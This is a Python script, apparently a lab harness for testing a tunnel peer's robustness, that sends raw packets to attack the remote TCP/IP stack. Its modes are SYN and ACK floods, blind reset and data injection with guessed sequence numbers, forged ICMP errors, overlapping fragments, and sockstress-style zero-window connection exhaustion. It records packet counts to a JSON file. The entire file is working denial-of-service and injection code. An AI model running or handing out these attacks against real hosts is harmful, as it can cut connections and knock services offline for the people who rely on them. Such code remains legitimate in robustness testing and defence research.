"""What a peer with a valid key, or somebody behind it, does to the TCP/IP stack at the other end: raw packets into the tunnel.

usage: stack-attack.py MODE FROM TO PORT RATE OUT
FROM is the own address in the tunnel. MODE is one of
  syn        SYNs from random ports to PORT
  ack        acknowledgments of nothing: half for connections that are not, half for the live ones
  rst, data  resets, and data, for the live ones by their ports, with numbers that are guessed
  icmp       errors about the live ones, with numbers that are guessed: unreachable, and packet too big
  fragments  pieces that overlap
  zero       1,000 requests at a time to PORT, whose window stays shut (sockstress)
  tiny       1,000 requests at a time to PORT, whose window is 3 bytes
Live are the connections that the kernel has on the own port 8085. The kernel must not reset what it does not know: what is
sent here has the mark 7. OUT gets JSON, sent and seconds, once OUT.end exists; OUT.begun says that it has begun.
"""
import collections
import json
import os
import random
import select
import socket
import struct
import sys
import time

SYN, RST, PSH, ACK, FIN = 2, 4, 8, 16, 1
LIVE = 8085
AT_ONCE = 1000
OPTIONS = bytes.fromhex("020405640402080a0000000100000000" "01030307")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


class Sender:
    def __init__(self, source, target):
        self.source, self.target = socket.inet_aton(source), socket.inet_aton(target)
        self.to = (target, 0)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.setsockopt(socket.SOL_SOCKET, 36, 7)  # SO_MARK
        self.sent = 0

    def ip(self, protocol, payload, ident=0, field=0x4000):
        # The kernel fills in the checksum.
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, field, 64, protocol, 0, self.source, self.target)
        try:
            self.raw.sendto(header + payload, self.to)
            self.sent += 1
        except OSError:
            pass  # The queue of the interface is full.

    def tcp(self, sport, dport, seq, ack, flags, window, payload=b"", options=b""):
        head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 + len(options) // 4) << 4, flags, window, 0, 0)
        body = head + options + payload
        pseudo = self.source + self.target + struct.pack("!HH", 6, len(body))
        self.ip(6, body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:])


def number():
    return random.getrandbits(32)


class Live:
    """The ports at the other end of the live connections, looked up anew ten times a second."""

    def __init__(self):
        self.at, self.ports = 0, [1]

    def port(self):
        now = time.monotonic()
        if now - self.at > 0.1:
            self.at = now
            rows = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
            ours = [row for row in rows if int(row[1].split(":")[1], 16) == LIVE and row[3] == "01"]
            self.ports = [int(row[2].split(":")[1], 16) for row in ours] or [1]
        return random.choice(self.ports)


def one(mode, sender, port, live, count):
    """Sends the next packet of an attack that keeps nothing in mind."""
    if mode == "syn":
        sender.tcp(random.randrange(20000, 60000), port, number(), 0, SYN, 65535, options=OPTIONS)
    elif mode == "ack" and count % 2:
        sender.tcp(random.randrange(20000, 60000), port, number(), number(), ACK, 1000)
    elif mode == "ack":
        sender.tcp(LIVE, live.port(), number(), number(), ACK, 1000)
    elif mode == "rst":
        sender.tcp(LIVE, live.port(), number(), number(), RST if count % 2 else RST | ACK, 0)
    elif mode == "data":
        sender.tcp(LIVE, live.port(), number(), number(), ACK | PSH, 1000, b"evil" * 25)
    elif mode == "icmp":
        quoted = struct.pack("!BBHHHBBH4s4sHHI", 0x45, 0, 1400, 0, 0x4000, 64, 6, 0, sender.target, sender.source,
                             live.port(), LIVE, number())
        body = struct.pack("!BBHHH", 3, (4, 3, 1)[count % 3], 0, 0, 600) + quoted
        sender.ip(1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])
    else:
        ident = count // 2 & 0xffff
        sender.ip(17, os.urandom(24 if count % 2 else 16), ident, 0x2000 | (1 if count % 2 else 0))


class Held:
    """Connections whose numbers are kept, so that each answer of the other end gets one more shut window."""

    def __init__(self, mode, sender, port):
        self.window = 0 if mode == "zero" else 3
        self.sender, self.port = sender, port
        # Who attacks again has other ports and numbers.
        self.next = random.randrange(20000, 60000)
        self.base = number() >> 1
        self.open = collections.OrderedDict()
        self.heard = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.heard.setblocking(False)
        self.heard.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)

    def begin(self):
        if len(self.open) >= AT_ONCE:
            # Who was never answered makes room.
            self.open.popitem(last=False)
        self.next = self.next + 1 if self.next < 60000 else 20000
        self.open[self.next] = None
        self.sender.tcp(self.next, self.port, self.base + self.next, 0, SYN, 65535, options=OPTIONS[:4])

    def answer(self):
        while True:
            try:
                packet = self.heard.recv(2048)
            except BlockingIOError:
                return
            at = (packet[0] & 15) * 4
            sport, dport, seq, _, offset, flags = struct.unpack_from("!HHIIBB", packet, at)
            if sport != self.port or dport not in self.open:
                continue
            length = len(packet) - at - (offset >> 4) * 4
            if flags & (RST | FIN):
                del self.open[dport]
            elif flags & SYN:
                self.open[dport] = seq + 1 & 0xffffffff
                request = b"GET /big HTTP/1.1\r\nHost: web.lab.test\r\n\r\n"
                self.sender.tcp(dport, self.port, self.base + dport + 1, self.open[dport], ACK | PSH, self.window, request)
            elif self.open[dport] is not None:
                if self.window and seq == self.open[dport]:
                    self.open[dport] = seq + length & 0xffffffff
                self.sender.tcp(dport, self.port, self.base + dport + 42, self.open[dport], ACK, self.window)


def main():
    mode, source, target, port, rate, out = sys.argv[1:7]
    port, rate = int(port), int(rate)
    sender, live = Sender(source, target), Live()
    held = Held(mode, sender, port) if mode in ("zero", "tiny") else None
    open(out + ".begun", "w").close()
    began, count = time.monotonic(), 0
    while not os.path.exists(out + ".end"):
        due = int((time.monotonic() - began) * (200 if held else rate))
        # What was missed for more than 100 ms, while others had the machine, is not made up for.
        count = max(count, due - rate // 10)
        while count < due:
            if held is None:
                one(mode, sender, port, live, count)
            elif len(held.open) < AT_ONCE or count % 20 == 0:
                held.begin()
            count += 1
        if held is None:
            time.sleep(0.0005)
        else:
            select.select([held.heard], [], [], 0.005)
            held.answer()
    with open(out, "w") as file:
        json.dump({"sent": sender.sent, "seconds": time.monotonic() - began}, file)


main()
